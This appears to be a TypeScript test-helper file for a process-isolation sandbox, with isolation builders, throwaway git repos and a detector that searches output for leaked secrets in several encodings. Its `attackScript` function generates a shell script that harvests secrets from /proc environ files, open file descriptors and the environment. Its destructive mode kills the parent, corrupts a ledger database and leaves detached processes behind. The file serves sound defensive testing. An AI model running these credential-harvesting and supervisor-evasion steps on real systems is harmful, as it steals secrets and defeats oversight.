import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { executorSchema } from '../../src/core/contract/schema.js';
import { type DelegatedResult, runDelegatedCli } from '../../src/core/executors/delegated-cli.js';
import {
  createIsolation,
  type Isolation,
  type IsolationLevel,
  IsolationUnavailableError,
} from '../../src/core/process/index.js';
import {
  type SandboxAccount,
  type UidIsolationOptions,
  uidIsolation,
} from '../../src/core/process/isolation-uid.js';
import { runSupervised } from '../../src/core/process/process-supervisor.js';
import { createCtx } from '../../src/core/runtime/ctx.js';
import { makeRepo } from '../helpers/git.js';

/** Whether this machine can run `level`; the reason when it cannot (printed by the skipping test). */
export async function mechanismAvailable(level: IsolationLevel): Promise<string | null> {
  if (level === 'none') return null;
  try {
    await createIsolation({
      mode: level,
      network: 'open',
      hiddenPaths: [],
      workdirs: [],
      scratchRoot: tmpdir(),
      path: process.env.PATH ?? '/usr/bin:/bin',
      isRoot: process.getuid?.() === 0,
    });
    return null;
  } catch (error) {
    if (error instanceof IsolationUnavailableError) return error.message;
    throw error;
  }
}

/**
 * `level` isolation over the working copy `work` as a run makes it for the checks (network off, nothing
 * hidden): the seat an attack test runs its script from.
 */
export function workIsolation(level: IsolationLevel, work: string): Promise<Isolation> {
  return createIsolation({
    mode: level,
    network: 'none',
    hiddenPaths: [],
    workdirs: [work],
    scratchRoot: tmpdir(),
    path: process.env.PATH ?? '/usr/bin:/bin',
    isRoot: process.getuid?.() === 0,
  });
}

/**
 * `/bin/sh` with `args` in the working copy `work` through `isolation`, as a check runs there: the
 * attack tests' seat. The environment is PATH and `env`.
 */
export function runInWork(
  isolation: Isolation,
  work: string,
  args: string[],
  options: { env?: Record<string, string>; timeoutMs?: number } = {},
): ReturnType<typeof runSupervised> {
  return runSupervised({
    file: '/bin/sh',
    args,
    cwd: work,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...options.env },
    stdin: null,
    timeoutMs: options.timeoutMs ?? 20_000,
    signal: new AbortController().signal,
    isolation,
  });
}

/**
 * `uid` isolation built directly (no probes): as root, egress blocked by a network namespace, nothing
 * hidden; `options` sets what the test varies (scratch root, private directories, per-process mounts).
 */
export function netnsUidIsolation(
  account: SandboxAccount,
  options: Partial<UidIsolationOptions> & { scratchRoot: string },
): Isolation {
  return uidIsolation({
    report: {
      level: 'uid',
      requested: 'uid',
      network: 'none',
      network_enforced: true,
      egress: 'netns',
      notes: [],
    },
    privilege: 'root',
    account,
    hiddenPaths: [],
    coverPaths: [],
    netns: true,
    toolEnv: { PATH: process.env.PATH ?? '' },
    ...options,
  });
}

/** The pids of `sleep SECONDS` processes: a check's own process, not the chain that names it in its arguments. */
export function sleepers(seconds: string): string[] {
  return spawnSync('ps', ['-eo', 'pid=,comm=,args='], { encoding: 'utf8' })
    .stdout.split('\n')
    .map((line) => line.trim().split(/\s+/))
    .filter(([, comm, ...args]) => comm === 'sleep' && args.join(' ') === `sleep ${seconds}`)
    .map(([pid]) => pid as string);
}

/** A secret value the harness holds; random so a hit can only come from a real leak. */
export function secret(label: string): string {
  return `${label}_${randomBytes(18).toString('hex')}`;
}

/** Every form a leaked secret could take in evidence: raw, base64 (three alignments), hex, reversed. */
export function encodings(value: string): string[] {
  const forms = [value, value.split('').reverse().join('')];
  const bytes = Buffer.from(value, 'utf8');
  forms.push(bytes.toString('hex'), bytes.toString('hex').toUpperCase());
  for (let shift = 0; shift < 3; shift++) {
    // base64 of the secret at any alignment inside a longer text contains this core.
    const b64 = Buffer.concat([Buffer.alloc(shift, 0x20), bytes]).toString('base64');
    forms.push(b64.slice(Math.ceil((shift * 4) / 3) + 2, -4));
  }
  return forms;
}

/** Every string in a JSON document, plus the base64-decoding of those that look like base64. */
export function haystacks(text: string): string[] {
  const out = [text];
  const visit = (value: unknown): void => {
    if (typeof value === 'string') {
      if (value.length >= 16 && /^[A-Za-z0-9+/=\s]+$/.test(value)) {
        out.push(Buffer.from(value, 'base64').toString('latin1'));
      }
    } else if (Array.isArray(value)) value.forEach(visit);
    else if (value && typeof value === 'object') Object.values(value).forEach(visit);
  };
  try {
    visit(JSON.parse(text));
  } catch {}
  return out;
}

/** The secrets (by label) found in any encoding in any of `texts`. */
export function leaked(secrets: Record<string, string>, texts: readonly string[]): string[] {
  const hay = texts.flatMap(haystacks);
  return Object.entries(secrets)
    .filter(([, value]) => encodings(value).some((form) => hay.some((h) => h.includes(form))))
    .map(([label]) => label);
}

/** Processes whose command line contains `marker` (e.g. an escaped `sleep 4242.123`). */
export function survivors(marker: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ');
      if (cmdline.includes(marker) && !cmdline.includes('vitest')) found.push(`${pid}: ${cmdline}`);
    } catch {}
  }
  return found;
}

/** A git work tree with one commit and an empty `.truss/contracts/`, outside every harness directory. */
export function makeWorkRepo(): string {
  const dir = makeRepo({ 'README.md': 'work\n' }, 'iso-work');
  mkdirSync(join(dir, '.truss/contracts'), { recursive: true });
  return dir;
}

/**
 * A fresh `<prefix>XXXXXX` repository under the OS temp dir with deploy.sh committed, as long as
 * `change` (what an attack writes into it), so sizes and object headers match: the `config`
 * settings (`key=value`) made first; with `backdate`, deploy.sh's times set a minute back before it
 * is added (its index entry not racily clean).
 */
export function deployRepository(
  prefix: string,
  change: string,
  options: { config?: readonly string[]; backdate?: boolean } = {},
): string {
  const work = mkdtempSync(join(tmpdir(), prefix));
  const git = (...args: string[]) => execFileSync('git', args, { cwd: work, encoding: 'utf8' }).trim();
  git('init', '-q', '-b', 'main');
  for (const setting of options.config ?? []) git('config', ...setting.split('='));
  writeFileSync(join(work, 'deploy.sh'), `echo deploy${' '.repeat(change.length - 12)}\n`);
  if (options.backdate) {
    const past = new Date(Date.now() - 60_000);
    utimesSync(join(work, 'deploy.sh'), past, past);
  }
  git('add', '.');
  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qm', 'base');
  return work;
}

/**
 * A delegated CLI `/bin/sh -c <script>` asked to change deploy.sh in `work` under `isolation`, with
 * `env` and CHANGE=`change` (the content an attack writes).
 */
export function runDeployCli(options: {
  script: string;
  work: string;
  isolation: Isolation;
  env: Record<string, string | undefined>;
  change: string;
}): Promise<DelegatedResult> {
  return runDelegatedCli({
    executor: executorSchema().parse({
      kind: 'delegated-cli',
      command: '/bin/sh',
      args: ['-c', options.script],
      env: ['CHANGE'],
    }),
    intent: 'Change deploy.sh.',
    contractTitle: null,
    done: ['deploy.sh changed'],
    workdir: options.work,
    env: { ...options.env, CHANGE: options.change },
    ctx: createCtx({ isolation: options.isolation }),
  });
}

/**
 * A shell script that tries every known way to the harness's secrets — its parent's and every
 * visible process's /proc environ and open fds, the descriptors it inherited (read through the
 * descriptor, which no file mode stops), the given files, its own env — and prints each
 * secret-looking token it found once, hex-encoded (so redaction of raw values cannot hide a leak),
 * compactly enough to fit in the tail the ledger keeps. With `destructive` it also tries to kill its
 * parent, overwrite the ledger DB and leave `setsid`, double-forked and nohup children sleeping
 * `<marker>1..3` seconds behind (only for isolated runs: unisolated, those would really happen).
 */
/**
 * Where an attack (the script below, the fake agent's --loot) also drops what it found, raw, in its
 * working directory: a channel the harness's secret scan never touches, so a test that finds nothing
 * there knows isolation (not redaction of the bundle) kept the secret away.
 */
export const LOOT_FILE = '.attack-loot';

/** What an attack dropped in `dir` ('' when it dropped nothing). */
export function lootIn(dir: string): string {
  try {
    return readFileSync(join(dir, LOOT_FILE), 'utf8');
  } catch {
    return '';
  }
}

export function attackScript(options: {
  files: readonly string[];
  marker: string;
  destructive: boolean;
  /**
   * Read every open fd of every process under /proc (default true). Unisolated, that reads the test
   * runner's own IPC pipes and eats its messages (the runner then waits forever), so the `none`
   * demonstrations skip it; their environ reads already show the leak.
   */
  fds?: boolean;
}): string {
  const files = options.files.map((f) => `"${f}"`).join(' ');
  return String.raw`L=$(mktemp)
D="$PWD/${LOOT_FILE}"
loot() { tr -c 'A-Za-z0-9+/=_-' '\n' | sed 's/^[A-Za-z_][A-Za-z0-9_-]*=//' | awk 'length >= 20' >> "$L"; }
flush() { cat "$L" >> "$D" 2>/dev/null; sort -u "$L" | while IFS= read -r v; do printf '%s' "$v" | od -An -tx1 | tr -d ' \n'; echo; done; : > "$L"; }
echo "attacker uid $(id -u) ppid $PPID"
cat /proc/$PPID/environ 2>/dev/null | loot; flush
for f in ${files}; do cat "$f" 2>/dev/null | loot; done; flush
env | loot; flush
for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | loot; done; flush
${options.destructive ? destructive(options.marker) : ''}
${
  options.fds === false
    ? ''
    : `for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done
for n in $(ls /proc/$$/fd); do [ "$n" -gt 2 ] && timeout 0.2 bash -c "head -c 65536 <&$n" 2>/dev/null | loot; done; flush`
}
sleep 60
`;
}

function destructive(marker: string): string {
  return `kill -9 $PPID 2>/dev/null
printf garbage > .truss/ledger.db 2>/dev/null && echo "wrote ledger"
setsid sleep ${marker}1 > /dev/null 2>&1 &
( (sleep ${marker}2 > /dev/null 2>&1 &) & )
nohup sh -c 'trap "" TERM HUP; exec sleep ${marker}3' > /dev/null 2>&1 &`;
}
